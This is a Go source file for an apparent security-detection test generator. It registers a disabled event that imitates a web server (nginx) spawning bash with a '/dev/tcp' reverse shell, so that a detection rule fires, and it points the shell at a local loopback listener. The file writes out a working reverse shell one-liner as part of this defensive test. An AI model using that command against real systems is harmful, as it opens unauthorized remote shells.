// SPDX-License-Identifier: Apache-2.0

//go:build linux

package syscall

import (
	"os"

	"github.com/falcotest/go-falcotest/events"
)

var _ = events.Register(ReverseShellFromWebServer, events.WithDisabled())

// ReverseShellFromWebServer lets a shell connect back from a web server.
//
// Rule: spawned_process below one of web_server_binaries (spawned_by_web_server)
// with /dev/tcp/ on its command line: copies of this executable run as nginx and,
// below it, as bash, which connects to a server of its own on loopback. Needs:
// nothing. The shell takes no commands.
//
// ATT&CK: T1059, command and scripting interpreter.
func ReverseShellFromWebServer(h events.Helper) error {
	const action = "syscall.ReverseShellFromWebServer"
	switch program(h) {
	case "nginx":
		host, port := os.Args[1], os.Args[2]
		return h.SpawnAs("bash", action, "-c", "bash -i >& /dev/tcp/"+host+"/"+port+" 0>&1", host, port)
	case "bash":
		return talkToLastArgs()
	}
	host, port, err := serveLoopback(h, "id\n")
	if err != nil {
		return err
	}
	return h.SpawnAs("nginx", action, host, port)
}
